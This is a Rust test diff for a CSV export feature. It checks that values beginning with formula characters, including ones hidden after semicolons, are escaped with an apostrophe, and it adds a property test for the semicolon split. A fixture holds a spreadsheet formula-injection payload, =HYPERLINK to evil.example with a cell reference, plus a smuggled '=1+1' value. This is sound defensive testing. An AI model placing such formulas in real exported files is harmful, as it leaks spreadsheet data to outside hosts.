@@ -63,8 +63,11 @@ fn formulas_stay_text_in_a_spreadsheet() {
     let (desk, key) = Desk::with_key();
     let mut receiver = Receiver::new(&desk.path("spool"), &key);
     receiver.takes(&Sent { values: &[("alias", "=HYPERLINK(\"https://evil.example/?\"&A1)"), ("phone", "+44 20")], ..Sent::default() });
+    // Where people write 1,5 for one and a half, spreadsheets part cells at semicolons, and care for no quotation mark here.
+    receiver.takes(&Sent { values: &[("alias", "a;=1+1;b")], ..Sent::default() });
     desk.run(&["import", "spool"]).done();
     let csv = desk.run(&["export", "--csv"]).done().out;
+    assert!(csv.contains(r#","a;'=1+1;b","#), "{csv}");
     assert!(csv.contains(r#""'=HYPERLINK(""https://evil.example/?""&A1)","'+44 20""#), "{csv}");
 }
 
@@ -75,6 +78,7 @@ proptest! {
     fn a_guarded_cell_is_text_and_can_be_told_back(cell in any::<String>()) {
         let guarded = sheet::guarded(&cell);
         prop_assert!(!guarded.trim_start().starts_with(['=', '+', '-', '@']));
-        prop_assert_eq!(guarded.strip_prefix('\'').unwrap_or(&guarded), cell.as_str());
+        let parts = guarded.split_inclusive([';', '\t', '\n', '\r']);
+        prop_assert_eq!(parts.map(|part| part.strip_prefix('\'').unwrap_or(part)).collect::<String>(), cell);
     }
 }
